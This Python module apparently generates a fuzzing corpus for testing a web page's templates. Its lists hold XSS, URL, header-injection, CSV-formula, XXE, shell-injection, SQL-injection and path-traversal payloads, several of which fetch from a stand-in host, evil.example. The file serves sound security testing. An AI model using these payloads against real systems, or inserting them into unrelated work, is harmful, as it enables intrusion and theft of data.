"""Hostile texts, as bytes, made from a grammar: ways out of a context times things to do outside,
in several encodings, and what other languages than HTML take for more than text."""

import random
import re
import urllib.parse
from pathlib import Path

WAYS_OUT = ["", "\"", "'", "`", "\">", "'>", "\" ", "' ", ">", "/>", "</p>", "</a></h3></li></ol>",
            "</title>", "</mark>", "</script>", "</style>", "</svg>", "</select>", "</textarea>",
            "-->", "--!>", "]]>", "?>", "</p></body></html>", "\\\"", "&quot;>", "&#34;>", "%22%3E"]

DEEDS = ["<script>alert(1)</script>", "<ScRiPt src=//evil.example></sCrIpT >", "<script",
         "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)//", "<svg/onload=alert(1)>",
         "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
         "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
         "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=javascript:alert(1)>x</a>",
         "<a href=\"//evil.example\">x</a>", "<style>@import '//evil.example';</style>",
         "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
         "<form action=//evil.example><button>x</button>", "<input autofocus onfocus=alert(1)>",
         "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<object data=x>",
         "<details open ontoggle=alert(1)>", "<template><b>", "<noscript><p title=\"</noscript><b>\">",
         "<plaintext>", "<!--", "<![CDATA[<b>x</b>]]>", "<?php echo 1 ?>", "<!DOCTYPE x>",
         "<mark>x</mark>", "</mark><b>x</b>", "onmouseover=alert(1) x=", "style=color:red x=",
         "autofocus onfocus=alert(1) x=", "<b id=main class=vigyapti-hit lang=zz>x</b>"]

HANDLERS = ("abort afterprint animationend auxclick beforeinput beforeunload blur canplay change "
            "click close contextmenu copy cut dblclick drag drop error focus focusin hashchange "
            "input invalid keydown keypress keyup load message mousedown mouseenter mousemove "
            "mouseover mouseup mousewheel pageshow paste play pointerdown pointerover popstate "
            "progress reset resize scroll search select show storage submit toggle touchstart "
            "transitionend unload volumechange wheel").split()

ELEMENTS = ("a abbr address applet area article aside audio b base bdi bdo blink blockquote body br "
            "button canvas center code col data dd del details dialog dir div dl dt embed fieldset "
            "figure font footer form frame frameset h1 head header hgroup hr html i iframe image "
            "img input ins isindex kbd label legend li link listing main map mark marquee math menu "
            "meta meter nav nobr noembed noframes noscript object ol optgroup option output p param "
            "picture plaintext pre progress q rb rp rt ruby s samp script section select slot small "
            "source span strike strong style sub summary sup svg table tbody td template textarea "
            "tfoot th thead time title tr track tt u ul var video wbr xmp").split()

ADDRESSES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
             "java\tscript:alert(1)", "java\nscript:alert(1)", "java\r\nscript:alert(1)",
             "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
             "javascript:https://example.org/%0aalert(1)", "javascript://example.org/%0aalert(1)",
             "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
             "vbscript:msgbox(1)", "file:///etc/passwd", "blob:https://example.org/x",
             "view-source:x", "//evil.example/", "\\\\evil.example\\x", "/\\evil.example", "mailto:a@b",
             "https:evil.example", "https:/evil.example", "https://", "http://", "https:///x",
             "https://example.org/\" onclick=\"alert(1)", "https://example.org/' onclick='alert(1)",
             "https://example.org/><script>alert(1)</script>", "https://example.org/ x",
             "https://example.org/\r\nSet-Cookie: a=b", "https://example.org/\x00", "HTTPS://x\ty",
             "https://user:pass@evil.example/", "https://example.org\\@evil.example",
             "https://example.org/?a=b&lt=c&copy=1", "https://example.org/&quot;onclick=x",
             "https://example.org/{searchTerms}", "https://example.org/`x`", "https://[::1]:0/",
             "https://example.org/\u202egnp.exe", "https://exa\u0000mple.org", "https://xn--/\u3002x",
             "http://example.org/#\"><b>", "http://example.org/%22%3E%3Cb%3E", "http://\u0130.example"]

HEADERS = ["Set-Cookie: a=b", "Location: //evil.example", "Status: 302 Found", "X-Evil: 1",
           "Content-Type: text/html", "Content-Length: 0\r\n\r\n<script>alert(1)</script>",
           "HTTP/1.1 200 OK\r\n\r\n<b>", "Content-Security-Policy: default-src *"]
LINE_ENDS = ["\r\n", "\n", "\r", "\n\n", "\r\n\r\n", "\v", "\f", "\u0085", "\u2028", "\u2029",
             "\u560a\u560d", "%0d%0a", "\\r\\n", "&#13;&#10;"]

FORMULAS = ["1+1", "cmd|' /C calc'!A0", "SUM(1,2)", "HYPERLINK(\"//evil.example\",\"x\")",
            "IMPORTXML(\"//evil.example\",\"//a\")", "2+5+cmd|' /C calc'!A0"]
FORMULA_SIGNS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20",
                 ";=", ",=", "\"=", "\",=", "\r\n=", "'=", "\x01=", "\x00=", "\ufeff=", "\x0b="]

NOTATIONS = ["\"", "\\", "\"}", "\"],[\"", "\\u0022", "\\\"", "\\u003cb\\u003e", "{\"__proto__\":1}",
             "\"});alert(1)//", "null", "NaN", "-Infinity", "1e999", "/**/alert(1)", "*/alert(1)/*",
             "&e;", "&#0;", "&#x1F;", "&#xD800;", "&#xFFFFFFFF;", "&amp;amp;", "&lt", "&nbsp;", "&",
             "&&", "&;", "&#", "&#x;", "&ltscript&gt", "%3Cb%3E", "%253Cb%253E", "%", "%u003c", "%%",
             "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "<!ENTITY a '&b;&b;'>",
             "<?xml version='1.0'?>", "xmlns:x='y'", "<xi:include href='/etc/passwd'/>", "]]&gt;",
             "{count}", "{query}", "{title}", "{}", "{0}", "{", "}", "{{", "}}", "{{7*7}}", "{:>9}",
             "{count:>99999999}", "{0.__class__}", "{searchTerms}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
             "{% x %}", "[[x]]", "%s%s%s%n", "%99999999d", "%p%x", "; id", "| id", "`id`", "$(id)",
             "&& id", "' ; id ; '", "() { :;}; id", "$IFS", "~root", "*", "?", "../../../etc/passwd",
             "..%2f..%2fetc%2fpasswd", "..\\..\\x", "/etc/passwd", "....//....//x", "page.css\x00.svg",
             "page.css/../messages.tsv", "page.css%00", ".", "..", "/", "//", "C:\\x", "CON",
             "' OR 1=1 --", "\" OR \"\"=\"", "1;DROP TABLE x", "*)(uid=*", "-", "--", "+", "(", ")",
             "((((((((", "\"\"", "title:", "title:(", "id:*", "lang:hi OR lang:en", "-x", "a NEAR/9 b",
             "date:..", "=x", "x~", "OR", "AND NOT", "\u0964", "expression(alert(1))", "url(//evil)",
             "color:red;}*{x:y", "\\3c b\\3e", "@import '//evil'", "/*", "+ADw-script+AD4-", "\u2215",
             "&page=2", "&format=csv", "#fragment", "=", "a=b&c=d", "?q=x", "+%2B%20", "true", "0", "-1",
             "99999999999999999999", "1e3", "0x10", "\u0967\u0968", "2023-10-17", "2023-13-45", "hi",
             "0000-00-00", "9999-12-31T23:59:59Z", "RU", "Atlantis", "help", "json", "opensearch.xml"]

STRANGE = ["\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069",
           "\u200e", "\u200f", "\u061c", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad",
           "\ufffd", "\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\U0010ffff", "\ue000", "\U000e0041",
           "\U0001f468\u200d\U0001f469", "\u0301" * 100, "\u0e49" * 80, "\u3164", "\u2800", "\u212a",
           "\uff1cscript\uff1e", "\u02bahonclick=\u02ba", "\u2039b\u203a", "\u0915\u094d" * 40,
           "\u093f\u0915", "\u0130\u0131\u017f", "\ufb01\ufdfa", "\U0001d400", "\u1160\u1160"]

BROKEN = [b"\xc0\xbc", b"\xe0\x80\xbc", b"\xf0\x80\x80\xbc", b"\xc0\x80", b"\xc1\xbf", b"\xe0\xa4",
          b"\xf0\x9f\x98", b"\xf0\x9f", b"\xe0", b"\xc3", b"\x80", b"\xbf", b"\xff", b"\xfe",
          b"\xfe\xff", b"\xff\xfe", b"\xed\xa0\x80", b"\xed\xb0\x80", b"\xed\xa0\xbd\xed\xb8\x80",
          b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\xfc\x84\x80\x80\x80\x80", b"\xc2", b"\xef\xbb",
          b"\xf7\xbf\xbf\xbf", b"\xe0\x9f\xbf", b"\xf0\x8f\xbf\xbf", b"\x8f", b"\xa0", b"\xc0\xa2"]

LONG = ["A" * 8000, "<" * 2600, "\"" * 2600, "&" * 2600, "<b>" * 800, "{" * 2600, "%" * 2000,
        "\u0905" * 900, "a " * 4000, "\u202e" * 800, "'" * 2600, "\\" * 2600, "\r\n" * 1300, "," * 2600,
        "(" * 2600, "\"a\" " * 500, "<!--" * 600, "]]>" * 800, "&amp;" * 500, "x=" * 1000]


def encodings(text):
    """Ways to write the same, some of which a careless reader turns back."""
    yield "".join(f"&#{ord(each)};" for each in text)
    yield "".join(f"&#x{ord(each):x}" for each in text)
    yield text.replace("<", "&lt;").replace(">", "&gt;")
    yield urllib.parse.quote(text)
    yield urllib.parse.quote(urllib.parse.quote(text))
    yield "".join(f"\\u{ord(each):04x}" for each in text)
    yield "".join(chr(ord(each) + 0xFEE0) if "!" <= each <= "~" else each for each in text)
    yield text.replace("<", "<\0")
    yield text.replace("<", "<\t").replace("=", "\n=\r")
    yield text.replace("<", "<\u200b")
    yield "\ufeff" + text.upper()
    yield "\u202e" + text[::-1]


def own_markup(folder):
    """The tags of the page's own templates."""
    for path in sorted(Path(folder).glob("*.html")) + [Path(folder) / "icon.svg"]:
        yield from re.findall(r"<[^>]+>", path.read_text(encoding="utf-8"))


def texts(folder):
    for way_out in WAYS_OUT:
        for deed in DEEDS:
            yield way_out + deed
    for deed in DEEDS:
        yield from encodings(deed)
    for handler in HANDLERS:
        yield f"\" on{handler}=\"alert(1)"
        yield f"x' on{handler}=alert(1) '"
    for element in ELEMENTS:
        yield f"<{element}>"
        yield f"</{element} >"
    yield from ADDRESSES
    for end in LINE_ENDS:
        for header in HEADERS:
            yield f"x{end}{header}"
    for sign in FORMULA_SIGNS:
        for formula in FORMULAS:
            yield sign + formula
    yield from NOTATIONS
    for letter in STRANGE:
        yield letter
        yield f"a{letter}<b>{letter}\""
    for code in [*range(0x20), *range(0x7F, 0xA0)]:
        yield chr(code)
        yield f"a{chr(code)}<b title=\"{chr(code)}\">"
    yield from LONG
    yield from own_markup(folder)


def payloads(folder):
    """All of them, each once, in the same order each time. `folder`: of the page's templates."""
    found = {text.encode("utf-8", "surrogatepass") for text in texts(folder)}
    for broken in BROKEN:
        found |= {broken, broken + b"<b>", b"\"" + broken + b"\" onclick=\"x", b"<" + broken + b"b>"}
    found.discard(b"")
    ordered = sorted(found)
    random.Random(7).shuffle(ordered)
    return ordered
